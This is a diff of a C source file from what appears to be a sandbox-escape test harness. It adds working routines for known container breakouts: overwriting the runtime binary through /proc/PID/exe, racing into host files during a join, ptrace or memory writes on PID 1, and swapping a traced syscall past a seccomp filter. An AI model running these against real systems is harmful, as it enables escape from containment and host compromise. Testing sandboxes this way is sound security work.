@@ -1,86 +1,132 @@
-/* Attacks on other processes: their memory, descriptors and namespaces. */
+/* Attacks by way of other processes: what they execute, have open, and how they are traced. */
 #define _GNU_SOURCE
-#include "calls.h"
+#include "attack.h"
+#include <dirent.h>
 #include <fcntl.h>
-#include <linux/kcmp.h>
 #include <sched.h>
 #include <signal.h>
 #include <stdlib.h>
 #include <sys/ptrace.h>
+#include <sys/stat.h>
 #include <sys/syscall.h>
-#include <sys/uio.h>
+#include <sys/user.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
-static pid_t victim;
-
-static char *of_victim(const char *file) {
-    static char path[64];
-    snprintf(path, sizeof path, "/proc/%d/%s", victim, file);
-    return path;
+/* Looks at each process but this one, until `look` says that it found what it wants. */
+static int each_process(int (*look)(int process, pid_t pid, const char *what), const char *what) {
+    DIR *all = opendir("/proc");
+    int found = 0;
+    for (struct dirent *entry; all && !found && (entry = readdir(all));) {
+        pid_t pid = atoi(entry->d_name);
+        if (pid <= 0 || pid == getpid()) continue;
+        int process = openat(dirfd(all), entry->d_name, O_PATH | O_DIRECTORY);
+        if (process < 0) continue;
+        found = look(process, pid, what);
+        close(process);
+    }
+    if (all) closedir(all);
+    return found;
 }
 
-static long here_by_ptrace(void) { return ptrace(PTRACE_SEIZE, victim, 0, 0); }
-static long by_ptrace(void) { return apart(here_by_ptrace); }
-static long by_mem(void) { return open(of_victim("mem"), O_RDWR); }
-static long by_root(void) { return open(of_victim("root"), O_RDONLY | O_DIRECTORY); }
-static long by_environ(void) { return open(of_victim("environ"), O_RDONLY); }
-static long vm(int number) {
-    char byte;
-    struct iovec here = {&byte, 1}, there = {(void *)1, 1};
-    return syscall(number, victim, &here, 1, &there, 1, 0);
-}
-static long by_readv(void) { return vm(SYS_process_vm_readv); }
-static long by_writev(void) { return vm(SYS_process_vm_writev); }
-static long by_pidfd_getfd(void) {
-    int pidfd = (int)syscall(SYS_pidfd_open, victim, 0);
-    return pidfd < 0 ? -1 : syscall(SYS_pidfd_getfd, pidfd, 0, 0);
-}
-static long by_kcmp(void) { return syscall(SYS_kcmp, victim, getpid(), KCMP_FILES, 0, 0); }
-
-/* Reads and writes a process's memory and takes its descriptors: `process-memory PID`. */
-ATTACK("process-memory", process_memory);
-static int process_memory(int argc, char **argv) {
-    victim = argc > 1 ? atoi(argv[1]) : 1;
-    static const struct call calls[] = {
-        {"ptrace", by_ptrace, 0},
-        {"process_vm_readv", by_readv, EFAULT},
-        {"process_vm_writev", by_writev, EFAULT},
-        {"pidfd_getfd", by_pidfd_getfd, 0},
-        {"kcmp", by_kcmp, 0},
-        {"/proc/PID/mem", by_mem, 0},
-        {"/proc/PID/environ", by_environ, 0},
-        {"/proc/PID/root", by_root, 0},
-    };
-    return EACH(calls);
+/* An executable of the sandbox's own, on the host's /run, is held until it is not executed any more, and written to. */
+static int seen, refused;
+static int write_executable(int process, pid_t pid, const char *device) {
+    (void)pid;
+    static int held[64], count;
+    struct stat is;
+    int file = openat(process, "exe", O_PATH);
+    if (file < 0) { refused = errno; return 0; }
+    if (fstat(file, &is) == 0 && is.st_dev == strtoul(device, NULL, 10) && count < 64) held[count++] = file, seen++;
+    else close(file);
+    for (int i = 0; i < count; i++) {
+        char path[32];
+        snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
+        int out = open(path, O_WRONLY);
+        if (out < 0) { refused = errno; continue; }
+        return write(out, "theirs", 6) == 6;
+    }
+    return 0;
 }
 
-static long enter(const char *name, int kind) {
-    char path[64];
-    snprintf(path, sizeof path, "/proc/1/ns/%s", name);
-    int ns = open(path, O_RDONLY);
-    return ns < 0 ? -1 : setns(ns, kind);
+/* The sandbox's own program overwritten by /proc/PID/exe: CVE-2019-5736, CVE-2019-12499. Arguments: the number of the
+ * device that it lies on, how often to look. */
+ATTACK("exe-overwrite", exe_overwrite);
+static int exe_overwrite(int argc, char **argv) {
+    if (argc < 3) return 3;
+    for (long round = atol(argv[2]); round > 0; round--)
+        if (each_process(write_executable, argv[1])) return 0;
+    char what[64];
+    snprintf(what, sizeof what, "%d executables of the sandbox's seen, the last one", seen);
+    errno = refused;
+    return stopped(what);
 }
-#define ENTERS(name, file, kind)                               \
-    static long name##_here(void) { return enter(file, kind); } \
-    static long name(void) { return apart(name##_here); }
-ENTERS(enter_mount, "mnt", CLONE_NEWNS)
-ENTERS(enter_net, "net", CLONE_NEWNET)
-ENTERS(enter_uts, "uts", CLONE_NEWUTS)
-static long here_by_pidfd(void) {
-    int pidfd = (int)syscall(SYS_pidfd_open, 1, 0);
-    return pidfd < 0 ? -1 : setns(pidfd, CLONE_NEWNS | CLONE_NEWNET | CLONE_NEWUTS);
+
+/* A way out by a process that is on its way in: its directories, what it has open, itself. */
+static int leads_out(int process, pid_t pid, const char *file) {
+    static const char *const links[] = {"root", "cwd"};
+    char path[512];
+    for (size_t i = 0; i < 2; i++) {
+        snprintf(path, sizeof path, "%s%s", links[i], file);
+        if (faccessat(process, path, R_OK, 0) == 0) return 1;
+        refused = errno;
+    }
+    int descriptors = openat(process, "fd", O_RDONLY | O_DIRECTORY);
+    DIR *all = descriptors < 0 ? NULL : fdopendir(descriptors);
+    int found = 0;
+    for (struct dirent *entry; all && !found && (entry = readdir(all));) {
+        snprintf(path, sizeof path, "%s%s", entry->d_name, file);
+        found = entry->d_name[0] != '.' && faccessat(dirfd(all), path, R_OK, 0) == 0;
+    }
+    if (all) closedir(all);
+    struct stat is, ours;
+    /* A process that executes no file of ours, and lets itself be traced. */
+    if (!found && fstatat(process, "exe", &is, 0) == 0 && stat("/usr/bin", &ours) == 0 && is.st_dev != ours.st_dev
+        && ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) found = 1;
+    return found;
 }
-static long by_pidfd(void) { return apart(here_by_pidfd); }
 
-/* Enters the namespaces of the first process that can be seen. */
-CALLS("first-namespaces", first_namespaces,
-    {"the mount namespace", enter_mount, 0}, {"the network", enter_net, 0}, {"the host name", enter_uts, 0},
-    {"all by a pidfd", by_pidfd, 0});
+/* CVE-2016-9962. Arguments: a file of the host's, a file to write when it is reached. */
+ATTACK("join-window", join_window);
+static int join_window(int argc, char **argv) {
+    if (argc < 3) return 3;
+    while (!each_process(leads_out, argv[1])) {}
+    return close(open(argv[2], O_WRONLY | O_CREAT, 0644)) == 0 ? 0 : broken(argv[2]);
+}
 
-/* Signals a process by a descriptor of it, and that by its number: `pidfd-signal PID`. */
-ATTACK("pidfd-signal", pidfd_signal);
-static int pidfd_signal(int argc, char **argv) {
-    int pidfd = argc > 1 ? (int)syscall(SYS_pidfd_open, atoi(argv[1]), 0) : -1;
-    if (pidfd < 0) return stopped("pidfd_open");
-    return syscall(SYS_pidfd_send_signal, pidfd, SIGURG, NULL, 0) == 0 ? 0 : stopped("pidfd_send_signal");
+/* The first process: traced, or its memory written. */
+ATTACK("first-process", first_process);
+static int first_process(int argc, char **argv) {
+    (void)argc, (void)argv;
+    if (open("/proc/1/mem", O_RDWR) >= 0) return 0;
+    if (ptrace(PTRACE_SEIZE, 1, 0, 0) == 0) return 0;
+    return stopped("ptrace(PTRACE_SEIZE, 1)");
+}
+
+/* A system call that is exchanged for another by a tracer, after the filter has seen the first: CVE-2017-5206. */
+ATTACK("traced-call", traced_call);
+static int traced_call(int argc, char **argv) {
+    (void)argc, (void)argv;
+    pid_t child = fork();
+    if (child < 0) return broken("fork");
+    if (child == 0) {
+        if (ptrace(PTRACE_TRACEME, 0, 0, 0) != 0) _exit(2);
+        raise(SIGSTOP);
+        _exit(syscall(SYS_getppid, CLONE_NEWUSER) == 0 ? 0 : 1);
+    }
+    int status;
+    if (waitpid(child, &status, 0) != child) return broken("waitpid");
+    if (WIFEXITED(status)) { errno = EPERM; return stopped("ptrace(PTRACE_TRACEME)"); }
+    while (ptrace(PTRACE_SYSCALL, child, 0, 0) == 0 && waitpid(child, &status, 0) == child && WIFSTOPPED(status)) {
+        struct user_regs_struct of;
+        if (ptrace(PTRACE_GETREGS, child, 0, &of) != 0) return stopped("ptrace(PTRACE_GETREGS)");
+        if (of.orig_rax != SYS_getppid) continue;
+        of.orig_rax = SYS_unshare;
+        of.rdi = CLONE_NEWUSER;
+        if (ptrace(PTRACE_SETREGS, child, 0, &of) != 0) return stopped("ptrace(PTRACE_SETREGS)");
+    }
+    if (!WIFEXITED(status)) return broken("the traced process");
+    if (WEXITSTATUS(status) == 0) return 0;
+    errno = EPERM;
+    return stopped("unshare, by a traced getppid");
 }
